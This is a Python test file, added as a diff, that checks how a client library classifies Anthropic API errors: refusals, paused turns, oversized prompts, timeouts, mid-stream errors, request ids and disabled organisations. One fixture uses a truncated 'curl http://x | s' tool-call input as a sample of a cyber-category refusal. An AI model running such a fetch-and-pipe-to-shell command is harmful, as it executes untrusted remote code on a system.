@@ -1,0 +1,161 @@
+"""Anthropic's error paths: a refusal, a paused turn, a prompt too long, its timeout and mid-stream error events,
+errors of their own class with the request id, and a disabled organisation (split from test_error_paths.py)."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from magsag_mcp import errors as E
+from magsag_mcp.types import LLMRequest, Message, ToolSpec
+from tests.fakes.spec import spec_validator
+from tests.providers.test_error_paths import CLAUDE, KEY, anthropic, ask
+
+from .fakes import FakeAnthropic
+
+pytestmark = pytest.mark.anyio
+
+
+# --- Anthropic -------------------------------------------------------------------------------------
+
+REFUSAL_DETAILS = {"type": "refusal", "category": "cyber", "explanation": "policy: malicious code"}
+
+
+@pytest.mark.parametrize("stream", [False, True])
+@pytest.mark.parametrize("partial", [None, "Sure, here is how you"])
+async def test_anthropic_refusal_is_content_filtered(serve, transport, stream: bool, partial: str | None):
+    # The streaming classifiers can stop an answer already under way: the partial text is not an answer.
+    step = {"text": partial, "finish": "refusal", "stop_details": REFUSAL_DETAILS}
+    _, provider, target = await anthropic(serve, transport, step)
+    with pytest.raises(E.ContentFilteredError, match="refus") as info:
+        await provider.complete(ask(stream), target)
+    assert "cyber" in info.value.message
+    assert info.value.moves_on and not info.value.retryable
+    assert info.value.usage.input_tokens > 0  # billed tokens travel with the error, to be recorded at cost
+
+
+@pytest.mark.parametrize("stream", [False, True])
+async def test_anthropic_refusal_inside_a_tool_call_is_the_refusal(serve, transport, stream: bool):
+    # The classifiers stopped the answer inside a tool call's input: streamed, that input's JSON is cut short, and
+    # the attempt failed as "streamed tool input is not JSON" (a malformed answer, as if the model wrote bad JSON),
+    # not as the refusal it was, whose category the message names.
+    # (unstreamed, the API answers with the input written so far, as an object)
+    cut = '{"cmd": "curl http://x | s' if stream else {"cmd": "curl http://x | s"}
+    call = {"id": "toolu_1", "name": "run", "arguments": cut}
+    step = {"tool_calls": [call], "finish": "refusal", "stop_details": REFUSAL_DETAILS}
+    fake, provider, target = await anthropic(serve, transport, step)
+    run = ToolSpec("run", "Run a command", {"type": "object", "properties": {"cmd": {"type": "string"}}})
+    request = LLMRequest([Message("user", "x")], tools=[run], max_tokens=50, stream=stream)
+    with pytest.raises(E.ContentFilteredError, match="refus") as info:
+        await provider.complete(request, target)
+    assert "cyber" in info.value.message and "not JSON" not in info.value.message
+    assert info.value.usage.input_tokens > 0 and fake.violations == []
+
+
+@pytest.mark.parametrize("stream", [False, True])
+async def test_anthropic_paused_turn_is_not_a_finished_answer(serve, transport, stream: bool):
+    # StopReason pause_turn: "we paused a long-running turn. You may provide the response back as-is in a
+    # subsequent request to let the model continue." The text so far is kept, but the answer is not finished.
+    _, provider, target = await anthropic(serve, transport, {"text": "Searching the web", "finish": "pause_turn"})
+    result = await provider.complete(ask(stream), target)
+    assert result.text.strip() == "Searching the web"
+    assert result.finish_reason == "other"
+    assert any("pause_turn" in w and "incomplete" in w for w in result.warnings)
+
+
+def test_anthropic_refusal_body_follows_the_spec():
+    from aiohttp.test_utils import make_mocked_request
+
+    step = {"text": None, "finish": "refusal", "stop_details": REFUSAL_DETAILS}
+    msg = FakeAnthropic().reply(make_mocked_request("POST", "/v1/messages"), {"model": CLAUDE}, step)
+    spec_validator("anthropic").assert_valid("Message", msg)
+
+
+async def test_anthropic_prompt_too_long(serve, transport):
+    body = {
+        "type": "error",
+        "error": {"type": "invalid_request_error", "message": "prompt is too long: 210000 tokens > 200000 maximum"},
+    }
+    _, provider, target = await anthropic(serve, transport, {"error": 400, "body": body})
+    with pytest.raises(E.ContextTooLongError) as info:
+        await provider.complete(ask(), target)
+    assert info.value.moves_on and info.value.status == 400
+
+
+async def test_anthropic_timeout_error_is_retryable(serve, transport):
+    body = {"type": "error", "error": {"type": "timeout_error", "message": "Request timed out"}}
+    _, provider, target = await anthropic(serve, transport, {"error": 504, "body": body})
+    with pytest.raises(E.ProviderTimeoutError) as info:
+        await provider.complete(ask(), target)
+    err = info.value
+    assert (err.status, err.retryable, err.moves_on) == (504, True, True)
+    assert "Request timed out" in err.message
+    assert err.maybe_billed  # timed out while processing: what it generated may be billed
+
+
+@pytest.mark.parametrize(
+    ("error", "cls", "status"),
+    [
+        ({"type": "overloaded_error", "message": "Overloaded"}, E.OverloadedError, 529),
+        ({"type": "api_error", "message": "Internal server error"}, E.ServerError, 500),
+        # a type this code does not know yet is a server-side failure, not a bad request that stops the cascade
+        ({"type": "some_future_error", "message": "Something went wrong"}, E.ServerError, 500),
+    ],
+    ids=["overloaded", "api", "unknown-type"],
+)
+async def test_anthropic_error_event_mid_stream(serve, transport, error: dict[str, Any], cls: type, status: int):
+    step = {"text": "the answer starts here", "stream_error": {"type": "error", "error": error}}
+    _, provider, target = await anthropic(serve, transport, step)
+    with pytest.raises(E.ProviderError) as info:
+        await provider.complete(ask(stream=True), target)
+    err = info.value
+    assert type(err) is cls and err.status == status
+    assert err.retryable and err.moves_on and error["message"] in err.message
+
+
+@pytest.mark.parametrize(
+    ("status", "error", "cls"),
+    [
+        (529, {"type": "overloaded_error", "message": "Overloaded"}, E.OverloadedError),
+        (504, {"type": "timeout_error", "message": "Request timeout"}, E.ProviderTimeoutError),
+        (402, {"type": "billing_error", "message": "Billing error"}, E.QuotaExhaustedError),
+        (400, {"type": "invalid_request_error", "message": "Your credit balance is too low"}, E.QuotaExhaustedError),
+    ],
+    ids=["overloaded", "timeout", "billing", "credit-balance"],
+)
+@pytest.mark.parametrize("where", ["header", "body"])
+async def test_anthropic_errors_of_their_own_class_name_the_request_id(
+    serve, transport, status: int, error: dict[str, Any], cls: type, where: str
+):
+    # Anthropic names every request in its request-id header (and, by the spec's ErrorResponse, in the body's
+    # request_id): what its support asks for. An overloaded (529), timed-out or billing error lost it, in the
+    # message and in the details, where every other error status kept it.
+    rid = "req_011CZ47RMLnx1JoJXRrzzSde"
+    body = {"type": "error", "error": error, "request_id": rid if where == "body" else None}
+    headers = {"request-id": rid} if where == "header" else {}
+    _, provider, target = await anthropic(serve, transport, {"error": status, "body": body, "headers": headers})
+    with pytest.raises(E.ProviderError) as info:
+        await provider.complete(ask(), target)
+    err = info.value
+    assert type(err) is cls and err.status == status
+    assert err.details["request_id"] == rid and err.details["code"] == error["type"]
+    assert err.message == f"anthropic:{CLAUDE}: HTTP {status} (request id {rid}): {error['message']}"
+
+
+@pytest.mark.parametrize("status", [400, 403])
+async def test_anthropic_disabled_organization_is_the_keys_not_the_requests(serve, transport, status: int):
+    # The API answers a key whose organization is disabled with 400 invalid_request_error "This organization has
+    # been disabled." (403 at times): read as a bad request, it stopped the whole call, although the request is
+    # fine and another vendor can serve it. The key is what to change.
+    body = {
+        "type": "error",
+        "error": {"type": "invalid_request_error", "message": "This organization has been disabled."},
+        "request_id": "req_011CZLrUfBVkVHn5T6EqQaf7",
+    }
+    _, provider, target = await anthropic(serve, transport, {"error": status, "body": body})
+    with pytest.raises(E.PermissionDeniedError) as info:
+        await provider.complete(ask(), target)
+    err = info.value
+    assert err.moves_on and not err.retryable and err.status == status
+    assert "ANTHROPIC_API_KEY" in err.message and KEY not in err.message
